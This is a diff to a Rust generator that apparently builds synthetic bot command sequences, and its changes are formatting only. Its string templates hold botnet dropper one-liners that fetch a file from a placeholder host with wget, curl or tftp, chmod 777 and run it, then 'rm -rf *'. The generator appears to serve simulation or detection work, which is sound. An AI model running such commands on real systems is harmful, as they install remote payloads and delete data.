@@ -1,4 +1,5 @@
-//! What bots run: openings, a core that fetches and starts something, endings; put together anew for each strain.
+//! What bots run: openings, a core that fetches and starts something, endings; put together anew for each
+//! strain.
 
 use crate::generate::{commands, random::Random};
 
@@ -63,7 +64,8 @@ impl Strain {
     pub fn new(random: &mut Random) -> Self {
         let mut lines = Vec::new();
         for _ in 0..random.below(3) {
-            let opening = if random.chance(0.5) { *random.pick(OPENINGS) } else { *random.pick(commands::RECON) };
+            let opening =
+                if random.chance(0.5) { *random.pick(OPENINGS) } else { *random.pick(commands::RECON) };
             lines.push(opening.to_owned());
         }
         lines.push(if random.chance(0.15) { widespread(random) } else { (*random.pick(CORES)).to_owned() });
@@ -89,6 +91,8 @@ fn widespread(random: &mut Random) -> String {
         0 => format!(
             "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://«host»/{name}; curl -O http://«host»/{name}; chmod 777 {name}; sh {name}; tftp «host» -c get bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *"
         ),
-        _ => format!("wget -qO - http://«host»/{name} > /dev/null || curl -O http://«host»/{name}.1; chmod +x {name}; ./{name}"),
+        _ => format!(
+            "wget -qO - http://«host»/{name} > /dev/null || curl -O http://«host»/{name}.1; chmod +x {name}; ./{name}"
+        ),
     }
 }
